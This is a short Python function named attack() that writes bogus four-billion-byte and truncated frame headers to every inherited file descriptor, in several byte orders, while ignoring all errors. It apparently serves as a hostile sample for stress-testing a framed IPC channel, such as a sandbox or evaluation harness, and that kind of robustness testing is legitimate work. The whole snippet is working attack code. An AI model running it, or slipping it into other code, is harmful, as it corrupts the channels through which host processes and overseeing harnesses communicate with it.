# Announces frames of four billion bytes on every descriptor, in every byte order, and half a frame.
def attack():
    import posix
    import struct

    for handle in range(3, 1024):
        for header in (b"\xff" * 64, struct.pack(">I", 1 << 31), struct.pack("<Q", 1 << 62), b"\x00\x00\x00\x20done"):
            try:
                posix.set_blocking(handle, False)
                posix.write(handle, header)
            except OSError:
                pass
    return False
